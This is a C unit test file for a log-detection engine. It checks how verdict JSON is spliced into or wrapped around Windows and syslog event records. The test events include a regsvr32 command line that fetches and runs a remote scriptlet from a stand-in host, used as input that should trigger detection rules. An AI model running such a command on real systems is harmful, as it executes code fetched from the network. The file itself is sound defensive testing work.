#include "lib/engine/verdict.h"

#include "lib/engine/event_id.h"
#include "lib/text/json.h"
#include "lib/wire/syslog.h"
#include "tests/support/corpus.h"
#include "tests/unit/engine/rig.h"

#define OURS "\"squibly\":{\"level\":\"high\"}"

/* As if a rule had matched that says no more than its level. */
static struct sq_finding found(void)
{
	struct sq_finding v = { .text = sq_outbuf_of(4096),
		                .rules = 1,
		                .level = 1 + SQ_LEVEL_HIGH };

	sq_outbuf_put(&v.text, SQ_SV("\"level\":\"high\""));
	return v;
}

struct splice_case {
	const char *name, *raw, *want;
	enum sq_verdict_shape shape;
};

/* clang-format off */
static struct splice_case splices[] = {
	{ "object", "{\"a\":1}", "{\"a\":1," OURS "}", SQ_VERDICT_SPLICED },
	{ "empty object", "{}", "{" OURS "}", SQ_VERDICT_SPLICED },
	{ "empty object with blanks", "{ \t}", "{ \t" OURS "}", SQ_VERDICT_SPLICED },
	{ "blanks before the brace", "{\"a\":1 \t}", "{\"a\":1 \t," OURS "}", SQ_VERDICT_SPLICED },
	{ "blanks behind it", "{\"a\":1} \t", "{\"a\":1," OURS "} \t", SQ_VERDICT_SPLICED },
	{ "a carriage return behind it", "{\"a\":1}\r", "{\"a\":1," OURS "}\r", SQ_VERDICT_SPLICED },
	{ "lines", "{\r\n\"a\":1\r\n}\r\n", "{\r\n\"a\":1\r\n," OURS "}\r\n", SQ_VERDICT_SPLICED },
	{ "nested", "{\"a\":{\"b\":[{}]}}", "{\"a\":{\"b\":[{}]}," OURS "}", SQ_VERDICT_SPLICED },
	{ "escapes", "{\"a\":\"\\\"}\\\\\"}", "{\"a\":\"\\\"}\\\\\"," OURS "}", SQ_VERDICT_SPLICED },
	{ "no UTF-8", "{\"a\":\"\xff\xc3\"}", "{\"a\":\"\xff\xc3\"," OURS "}", SQ_VERDICT_SPLICED },
	{ "our name inside", "{\"a\":{\"squibly\":1}}", "{\"a\":{\"squibly\":1}," OURS "}", SQ_VERDICT_SPLICED },
	{ "our name as a value", "{\"a\":\"squibly\"}", "{\"a\":\"squibly\"," OURS "}", SQ_VERDICT_SPLICED },
	{ "BOM", "\xef\xbb\xbf{\"a\":1}", "\xef\xbb\xbf{\"a\":1," OURS "}", SQ_VERDICT_SPLICED },
	{ "syslog header", "<13>1 2026-01-01T00:00:00Z h a - - - {\"a\":1}",
	  "<13>1 2026-01-01T00:00:00Z h a - - - {\"a\":1," OURS "}", SQ_VERDICT_SPLICED },
	{ "syslog header and cookie", "<13>Jan  1 00:00:00 h a: @cee: {\"a\":1}",
	  "<13>Jan  1 00:00:00 h a: @cee: {\"a\":1," OURS "}", SQ_VERDICT_SPLICED },
	{ "a member of that name", "{\"squibly\":{\"x\":1},\"a\":1}", "{\"a\":1," OURS "}", SQ_VERDICT_REPLACED },
	{ "the only member", "{\"squibly\":1}", "{" OURS "}", SQ_VERDICT_REPLACED },
	{ "that name in disguise", "{\"a\":1, \"squibl\\u0079\" : 1 }", "{\"a\":1," OURS "}", SQ_VERDICT_REPLACED },
	{ "that name twice", "{\"squibly\":1,\"a\":1,\"squibly\":2}", "{\"a\":1," OURS "}", SQ_VERDICT_REPLACED },
	{ "array", "[{\"a\":1}]", "{\"message\":\"[{\\\"a\\\":1}]\"," OURS "}", SQ_VERDICT_WRAPPED },
	{ "two objects", "{}{}", "{\"message\":\"{}{}\"," OURS "}", SQ_VERDICT_WRAPPED },
	{ "an object and text", "{} x", "{\"message\":\"{} x\"," OURS "}", SQ_VERDICT_WRAPPED },
	{ "text", "a \"line\"", "{\"message\":\"a \\\"line\\\"\"," OURS "}", SQ_VERDICT_WRAPPED },
	{ "text of control bytes", "\x01\t\\", "{\"message\":\"\\u0001\\t\\\\\"," OURS "}", SQ_VERDICT_WRAPPED },
	{ "XML", "<Event a='b'/>", "{\"message\":\"<Event a='b'/>\"," OURS "}", SQ_VERDICT_WRAPPED },
	{ "cut in a text", "{\"a\":\"b", "{\"message\":\"{\\\"a\\\":\\\"b\"," OURS "}", SQ_VERDICT_WRAPPED },
	{ "cut before the brace", "{\"a\":1", "{\"message\":\"{\\\"a\\\":1\"," OURS "}", SQ_VERDICT_WRAPPED },
	{ "a brace too many", "{\"a\":1}}", "{\"message\":\"{\\\"a\\\":1}}\"," OURS "}", SQ_VERDICT_WRAPPED },
	{ "nothing", "", "{\"message\":\"\"," OURS "}", SQ_VERDICT_WRAPPED },
};
/* clang-format on */

static void check_splice(void **state)
{
	const struct splice_case *tc = *state;
	struct sq_view view = { .min_level = SQ_LEVEL_INFORMATIONAL };
	struct sq_finding v = found();
	struct sq_outbuf out = sq_outbuf_of(4096);
	bool mended;
	size_t n = strlen(tc->raw);
	char *raw = exact(tc->raw, n);

	assert_int_equal(sq_verdict_write(&out, &view, (struct sq_sv){ raw, n }, &v, &mended),
	                 tc->shape);
	assert_sv_equal(sq_outbuf_view(&out), sq_sv_of(tc->want));
	free(raw);
	sq_outbuf_fini(&out);
	sq_outbuf_fini(&v.text);
}

static void a_level_below_says_nothing_unless_all_are_told(void **state)
{
	struct sq_finding v = found(), none = { .text = sq_outbuf_of(64) };
	struct sq_view view = { .min_level = SQ_LEVEL_CRITICAL };
	struct sq_outbuf out = sq_outbuf_of(4096);
	bool mended;

	(void)state;
	sq_outbuf_put(&none.text, SQ_SV("\"peer\":\"p\""));
	assert_int_equal(sq_verdict_write(&out, &view, SQ_SV("{}"), &v, &mended),
	                 SQ_VERDICT_AS_IT_CAME);
	assert_int_equal(sq_verdict_write(&out, &view, SQ_SV("x"), &none, &mended),
	                 SQ_VERDICT_AS_IT_CAME);
	assert_int_equal(out.len, 0);
	view.always = true;
	assert_int_equal(sq_verdict_write(&out, &view, SQ_SV("{}"), &none, &mended),
	                 SQ_VERDICT_SPLICED);
	assert_sv_equal(sq_outbuf_view(&out), SQ_SV("{\"squibly\":{\"peer\":\"p\"}}"));
	sq_outbuf_fini(&out);
	sq_outbuf_fini(&v.text);
	sq_outbuf_fini(&none.text);
}

static void fields_are_left_out_of_what_matched_and_of_what_did_not(void **state)
{
	struct sq_finding v = found(), none = { .text = sq_outbuf_of(64) };
	struct sq_view view = { .fields = { .names = { SQ_SV("m"), SQ_SV("e.o") }, .n = 2 } };
	struct sq_sv raw = SQ_SV("<13>{\"m\":\"x\", \"e\":{\"o\":1,\"p\":2},\"squibly\":0} ");
	struct sq_outbuf out = sq_outbuf_of(4096);
	bool mended;

	(void)state;
	assert_int_equal(sq_verdict_write(&out, &view, raw, &v, &mended), SQ_VERDICT_REPLACED);
	assert_sv_equal(sq_outbuf_view(&out), SQ_SV("<13>{ \"e\":{\"p\":2}," OURS "} "));
	sq_outbuf_reset(&out);
	assert_int_equal(sq_verdict_write(&out, &view, raw, &none, &mended), SQ_VERDICT_LEFT_OUT);
	assert_sv_equal(sq_outbuf_view(&out), SQ_SV("<13>{ \"e\":{\"p\":2},\"squibly\":0} "));
	sq_outbuf_reset(&out);
	assert_int_equal(sq_verdict_write(&out, &view, SQ_SV("{\"m\":1"), &none, &mended),
	                 SQ_VERDICT_AS_IT_CAME);
	assert_int_equal(out.len, 0);
	view.fields.keep = true;
	assert_int_equal(sq_verdict_write(&out, &view, SQ_SV("{\"a\":1}"), &v, &mended),
	                 SQ_VERDICT_SPLICED);
	assert_sv_equal(sq_outbuf_view(&out), SQ_SV("{" OURS "}"));
	sq_outbuf_fini(&out);
	sq_outbuf_fini(&v.text);
	sq_outbuf_fini(&none.text);
}

struct json_case {
	const char *name, *raw, *clean, *matched; /* clean NULL: as it came */
	bool mended;
};

/* clang-format off */
static struct json_case jsons[] = {
	{ "an object", "{\"a\":1}", NULL, "{\"a\":1," OURS "}" },
	{ "a header", "<13>1 2026-01-01T00:00:00Z h a - - - {\"a\":1}", "{\"a\":1}", "{\"a\":1," OURS "}" },
	{ "blanks around it", "\xef\xbb\xbf {\"a\":1} ", "{\"a\":1}", "{\"a\":1," OURS "}" },
	{ "text", "<13>Jan  1 00:00:00 h a: hello", "{\"message\":\"<13>Jan  1 00:00:00 h a: hello\"}",
	  "{\"message\":\"<13>Jan  1 00:00:00 h a: hello\"," OURS "}" },
	{ "an array", "[1]", "{\"message\":\"[1]\"}", "{\"message\":\"[1]\"," OURS "}" },
	{ "cut off", "{\"a\":1", "{\"message\":\"{\\\"a\\\":1\"}", "{\"message\":\"{\\\"a\\\":1\"," OURS "}" },
	{ "nothing", "", "{\"message\":\"\"}", "{\"message\":\"\"," OURS "}" },
	{ "UTF-8", "{\"a\":\"\xc3\xa4\"}", NULL, "{\"a\":\"\xc3\xa4\"," OURS "}" },
	{ "no UTF-8", "{\"a\":\"\xff\xc3\"}", "{\"a\":\"\xef\xbf\xbd\xef\xbf\xbd\"}",
	  "{\"a\":\"\xef\xbf\xbd\xef\xbf\xbd\"," OURS "}", true },
	{ "a tab in a text, behind a header", "<13>{\"a\":\"\t\"}", "{\"a\":\"\\u0009\"}",
	  "{\"a\":\"\\u0009\"," OURS "}", true },
	{ "no JSON inside", "{\"a\":NaN}", "{\"message\":\"{\\\"a\\\":NaN}\"}",
	  "{\"message\":\"{\\\"a\\\":NaN}\"," OURS "}" },
	{ "text that is no UTF-8", "a\xff", "{\"message\":\"a\xef\xbf\xbd\"}",
	  "{\"message\":\"a\xef\xbf\xbd\"," OURS "}" },
};
/* clang-format on */

static void check_json(void **state)
{
	const struct json_case *tc = *state;
	struct sq_view view = { .json = true };
	struct sq_finding v = found(), none = { .level = 0 };
	struct sq_outbuf out = sq_outbuf_of(4096);
	bool mended;
	size_t n = strlen(tc->raw);
	char *raw = exact(tc->raw, n);
	enum sq_verdict_shape shape =
		sq_verdict_write(&out, &view, (struct sq_sv){ raw, n }, &none, &mended);

	assert_int_equal(shape == SQ_VERDICT_AS_IT_CAME, !tc->clean);
	assert_sv_equal(sq_outbuf_view(&out), sq_sv_of(tc->clean ? tc->clean : ""));
	assert_int_equal(mended, tc->mended);
	sq_outbuf_reset(&out);
	(void)sq_verdict_write(&out, &view, (struct sq_sv){ raw, n }, &v, &mended);
	assert_sv_equal(sq_outbuf_view(&out), sq_sv_of(tc->matched));
	assert_int_equal(mended, tc->mended);
	free(raw);
	sq_outbuf_fini(&out);
	sq_outbuf_fini(&v.text);
}

static void what_does_not_fit_says_so(void **state)
{
	struct sq_view view = { .min_level = SQ_LEVEL_INFORMATIONAL };
	struct sq_finding v = found();
	struct sq_sv raw = SQ_SV("{\"a\":\"0123456789\"}");
	bool mended;

	(void)state;
	for (size_t max = 0; max < raw.n + sizeof(OURS); max++) {
		struct sq_outbuf out = sq_outbuf_of(max);

		assert_int_equal(sq_verdict_write(&out, &view, raw, &v, &mended),
		                 SQ_VERDICT_FAILED);
		assert_true(out.failed);
		sq_outbuf_fini(&out);
	}
	v.text.failed = true;
	assert_int_equal(sq_verdict_write(&(struct sq_outbuf){ .max = 4096 }, &view, raw, &v,
	                                  &mended),
	                 SQ_VERDICT_FAILED);
	sq_outbuf_fini(&v.text);
}

/* ---- through a pipeline ------------------------------------------------------------------ */

static const struct sq_view plain_view = { .min_level = SQ_LEVEL_INFORMATIONAL };

/* One record through the pipeline of the rig. @return its text, or the record; a view of the batch
 */
static struct sq_sv pass(struct rig *g, struct sq_sv raw)
{
	struct sq_batch *b = g->batch;
	const struct sq_record *rec;

	rig_add(g, raw);
	sq_pipeline_run(g->pipeline, b, rig_now);
	assert_false(sq_batch_unfinished(b));
	rec = &b->records[b->done - 1];
	if (!rec->pass || !b->passes[rec->pass - 1].text[0].n)
		return rec->raw;
	return (struct sq_sv){ b->out.p + b->passes[rec->pass - 1].text[0].at,
		               b->passes[rec->pass - 1].text[0].n };
}

#define EVENT(command)                                                                             \
	"{\"EventID\":4688,\"Channel\":\"Security\",\"NewProcessName\":"                           \
	"\"C:\\\\Windows\\\\System32\\\\regsvr32.exe\",\"CommandLine\":\"" command "\"}"

static void a_verdict_names_rules_levels_and_who_sent_it(void **state)
{
	struct sq_sv raw = SQ_SV(EVENT("regsvr32 /i:http://x/a.sct scrobj.dll")), got;
	struct sq_pipeline_opts opts = { .views = &plain_view, .n_views = 1 };
	struct rig g;

	(void)state;
	rig_open(&g, opts, 1 << 20);
	got = pass(&g, raw);
	assert_true(sq_sv_starts(got, sq_sv_first(raw, raw.n - 1)));
	assert_true(sq_sv_starts(sq_sv_skip(got, raw.n - 1),
	                         SQ_SV(",\"squibly\":{\"received\":\"2020-07-22T03:28:00.000Z\","
	                               "\"peer\":\"192.0.2.7:51234\",\"event_id\":\"")));
	assert_true(sq_sv_find(got, SQ_SV("\"program\":\"regsvr32.exe\"")) != SIZE_MAX);
	assert_true(sq_sv_ends(got, SQ_SV("\"rules\":["
	                                  "{\"id\":\"11111111-1111-4111-8111-111111111111\","
	                                  "\"name\":\"Scriptlet engine\",\"level\":\"high\"},"
	                                  "{\"id\":\"22222222-2222-4222-8222-222222222222\","
	                                  "\"name\":\"Registration tool\",\"level\":\"low\"}],"
	                                  "\"level\":\"high\"}}")));
	assert_int_equal(g.batch->counts.verdicts, 1);
	rig_run(&g);
	rig_close(&g);
}

static void what_is_mended_is_counted_once_for_a_record(void **state)
{
	static const struct sq_view both[] = { { .json = true }, { .json = true, .always = true } };
	struct sq_pipeline_opts opts = { .views = both, .n_views = SQ_LEN(both) };
	struct rig g;

	(void)state;
	rig_open(&g, opts, 1 << 20);
	rig_add(&g, SQ_SV("{\"EventID\":1,\"a\":\"\xff\"}"));
	rig_add(&g, SQ_SV("{\"EventID\":1,\"a\":\"b\"}"));
	rig_run(&g);
	assert_int_equal(g.counts.records_mended, 1);
	rig_close(&g);
}

static void a_record_of_several_events_has_one_verdict_of_all(void **state)
{
	struct sq_sv raw = SQ_SV("[" EVENT("a") "," EVENT("b scrobj") "," EVENT("c") "]"), got;
	struct sq_pipeline_opts opts = { .views = &plain_view, .n_views = 1 };
	struct rig g;

	(void)state;
	rig_open(&g, opts, 1 << 20);
	got = pass(&g, raw);
	assert_true(sq_sv_starts(got, SQ_SV("{\"message\":\"[{\\\"EventID\\\"")));
	assert_true(sq_sv_ends(got, SQ_SV("\"name\":\"Registration tool\",\"level\":\"low\"}],"
	                                  "\"level\":\"high\"}}")));
	assert_int_equal(g.batch->counts.verdicts_wrapped, 1);
	assert_int_equal(g.batch->counts.further, 2);
	rig_run(&g);
	rig_close(&g);
}

/* The batch is delivered in the middle of a record: nothing of the verdict is lost. */
static void a_record_that_is_run_in_parts_has_one_verdict(void **state)
{
	struct sq_pipeline_opts opts = { .views = &plain_view, .n_views = 1, .formats = 1 };
	struct sq_batch *b;
	struct rig g;
	unsigned parts = 0;

	(void)state;
	rig_open(&g, opts, 512);
	b = g.batch;
	rig_add(&g, SQ_SV("[" EVENT("a") "," EVENT("b") "," EVENT("c scrobj") "]"));
	rig_add(&g, SQ_SV("{}"));
	do {
		if (parts++)
			sq_batch_clear_out(b);
		assert_int_equal(b->n_passes, 0);
		sq_pipeline_run(g.pipeline, b, rig_now);
		assert_true(parts < 100);
		if (b->from == 0 && b->done > 0) {
			const struct sq_pass_ref *p = &b->passes[b->records[0].pass - 1];

			assert_int_equal(p->level, 1 + SQ_LEVEL_HIGH);
			assert_true(p->text[0].n > 0);
		}
	} while (sq_batch_unfinished(b));
	assert_true(parts > 2);
	assert_int_equal(b->records[1].pass, 0);
	assert_int_equal(b->counts.verdicts, 1);
	rig_run(&g);
	rig_close(&g);
}

static void ids_and_hosts_are_told_of_every_record(void **state)
{
	static const char *const records[] = {
		"{\"EventID\":1,\"Hostname\":\"ws-1\",\"Channel\":\"S\",\"RecordNumber\":1}",
		"{\"EventID\":1,\"Hostname\":\"ws-1\",\"Channel\":\"S\",\"RecordNumber\":2}",
		EVENT("scrobj"),
		"no event",
		"no event either",
	};
	const struct sq_view view = { .identify = true };
	struct sq_pipeline_opts opts = { .views = &view, .n_views = 1 };
	struct sq_batch *b;
	struct rig g;

	(void)state;
	rig_open(&g, opts, 1 << 20);
	b = g.batch;
	for (int round = 0; round < 2; round++)
		for (size_t i = 0; i < SQ_LEN(records); i++)
			rig_add(&g, sq_sv_of(records[i]));
	sq_pipeline_run(g.pipeline, b, rig_now);
	assert_int_equal(b->n_passes, 2 * SQ_LEN(records));
	for (size_t i = 0; i < SQ_LEN(records); i++) {
		assert_true(b->passes[i].id[0] | b->passes[i].id[1]);
		assert_memory_equal(b->passes[i].id, b->passes[i + SQ_LEN(records)].id, 16);
		for (size_t k = 0; k < i; k++)
			assert_memory_not_equal(b->passes[i].id, b->passes[k].id, 16);
		assert_sv_equal(((struct sq_sv){ b->out.p + b->passes[i].host.at,
		                                 b->passes[i].host.n }),
		                i < 2 ? SQ_SV("ws-1") : SQ_SV(""));
		assert_int_equal(b->passes[i].text[0].n > 0, i == 2);
	}
	rig_run(&g);
	rig_close(&g);
}

/* An array, or objects back to back, may begin with the same event as another: what comes after it
 * makes another record of it. The verdict names the event that matched, as its alerts do. */
static void records_of_several_events_are_told_apart(void **state)
{
#define CALM "{\"EventID\":1,\"Hostname\":\"ws-1\",\"Channel\":\"S\",\"RecordNumber\":1}"
#define LOUD EVENT("scrobj")
	static const char *const records[] = {
		CALM,
		LOUD,
		"[" CALM "," LOUD "]",
		CALM LOUD,
		"<13>1 2026-01-01T00:00:00Z h a - - - [" CALM "," EVENT("b scrobj") "]",
		CALM "{\"a\":",
	};
	static const char *const again =
		"<13>1 2026-01-01T00:00:01Z h a - - - [" CALM "," EVENT("b scrobj") "]";
	const struct sq_view view = { .identify = true };
	struct sq_pipeline_opts opts = { .views = &view, .n_views = 1 };
	char loud[SQ_ID_TEXT];
	struct sq_batch *b;
	struct rig g;

	(void)state;
	rig_open(&g, opts, 1 << 20);
	b = g.batch;
	for (size_t i = 0; i < SQ_LEN(records); i++)
		rig_add(&g, sq_sv_of(records[i]));
	rig_add(&g, sq_sv_of(again));
	sq_pipeline_run(g.pipeline, b, rig_now);
	assert_int_equal(b->n_passes, SQ_LEN(records) + 1);
	for (size_t i = 0; i < SQ_LEN(records); i++)
		for (size_t k = 0; k < i; k++)
			assert_memory_not_equal(b->passes[i].id, b->passes[k].id, 16);
	/* A relay's header makes no other record of it. */
	assert_memory_equal(b->passes[SQ_LEN(records)].id, b->passes[SQ_LEN(records) - 2].id, 16);
	sq_id_format(b->passes[1].id, loud);
	for (size_t i = 1; i < 4; i++) {
		const struct sq_pass_ref *p = &b->passes[i];
		struct sq_sv text = { b->out.p + p->text[0].at, p->text[0].n };
		size_t at = sq_sv_find(text, SQ_SV("\"event_id\":\""));

		assert_true(at != SIZE_MAX);
		text = sq_sv_skip(text, at + sizeof("\"event_id\":\"") - 1);
		assert_sv_equal(sq_sv_first(text, sizeof(loud)),
		                ((struct sq_sv){ loud, sizeof(loud) }));
	}
	assert_sv_equal(((struct sq_sv){ b->out.p + b->passes[2].host.at, b->passes[2].host.n }),
	                SQ_SV("ws-1"));
	rig_run(&g);
	rig_close(&g);
#undef CALM
#undef LOUD
}

/* ---- real events ------------------------------------------------------------------------- */

static bool sink_nesting(void *ctx, bool array)
{
	(void)ctx;
	(void)array;
	return true;
}

static bool sink_key(void *ctx, struct sq_sv key)
{
	(void)ctx;
	(void)key;
	return true;
}

static bool sink_scalar(void *ctx, enum sq_json_kind kind, struct sq_sv text, bool stays)
{
	(void)ctx;
	(void)kind;
	(void)text;
	(void)stays;
	return true;
}

static const struct sq_json_sink sink = { sink_nesting, sink_nesting, sink_key, sink_scalar };

static bool is_json(struct sq_json *js, struct sq_sv text)
{
	size_t used = 0;

	return sq_json_read(js, text, &used) == 0 && sq_sv_trim(sq_sv_skip(text, used)).n == 0;
}

/* Every record says it, is JSON when it was, and what is left without our part is what came. */
static void check_real(struct sq_json *js, struct sq_sv raw, uint32_t spliced[2])
{
	static const struct sq_view view = { .always = true };
	struct sq_finding v = found();
	struct sq_outbuf out = sq_outbuf_of(64 << 20);
	bool mended;
	enum sq_verdict_shape shape = sq_verdict_write(&out, &view, raw, &v, &mended);
	struct sq_sv got = sq_outbuf_view(&out);
	size_t at = sq_sv_find(got, SQ_SV("," OURS "}"));
	struct sq_syslog header;

	sq_syslog_strip(raw, &header);
	if (shape == SQ_VERDICT_SPLICED) {
		assert_true(at != SIZE_MAX);
		assert_sv_equal(sq_sv_first(got, at), sq_sv_first(raw, at));
		assert_sv_equal(sq_sv_skip(got, at + sizeof("," OURS) - 1), sq_sv_skip(raw, at));
		if (is_json(js, header.payload))
			assert_true(
				is_json(js, sq_sv_skip(got, (size_t)(header.payload.p - raw.p))));
	} else {
		assert_int_equal(shape, SQ_VERDICT_WRAPPED);
		assert_false(header.payload.n && header.payload.p[0] == '{' &&
		             is_json(js, header.payload));
		assert_true(is_json(js, got));
	}
	spliced[shape == SQ_VERDICT_WRAPPED]++;
	sq_outbuf_fini(&out);
	sq_outbuf_fini(&v.text);
}

static void real_events_stay_byte_for_byte(void **state)
{
	struct sq_json *js = sq_json_new(&sink, NULL, &(struct sq_json_limits){ 64, 100000 });
	static const char *const folders[] = { "corpus/nxlog", "corpus/nxlog-wef",
		                               "corpus/winlogbeat6", "corpus/shapes" };
	uint32_t spliced[2] = { 0 };
	struct corpus c = { 0 };

	(void)state;
	(void)corpus_folder();
	for (size_t i = 0; i < SQ_LEN(folders); i++)
		corpus_add(&c, folders[i], i < 3 ? 29 : 1);
	for (size_t i = 0; i < c.n; i++)
		check_real(js, c.records[i], spliced);
	print_message("%u spliced, %u wrapped\n", spliced[0], spliced[1]);
	assert_true(spliced[0] > 100);
	corpus_end(&c);
	sq_json_free(js);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_level_below_says_nothing_unless_all_are_told),
		cmocka_unit_test(fields_are_left_out_of_what_matched_and_of_what_did_not),
		cmocka_unit_test(what_does_not_fit_says_so),
		cmocka_unit_test(a_verdict_names_rules_levels_and_who_sent_it),
		cmocka_unit_test(what_is_mended_is_counted_once_for_a_record),
		cmocka_unit_test(a_record_of_several_events_has_one_verdict_of_all),
		cmocka_unit_test(a_record_that_is_run_in_parts_has_one_verdict),
		cmocka_unit_test(ids_and_hosts_are_told_of_every_record),
		cmocka_unit_test(records_of_several_events_are_told_apart),
		cmocka_unit_test(real_events_stay_byte_for_byte),
	};
	int failed = RUN_TABLE("verdict/splice", splices, check_splice) +
	             RUN_TABLE("verdict/json", jsons, check_json);

	return failed + cmocka_run_group_tests_name("verdict", tests, NULL, NULL);
}
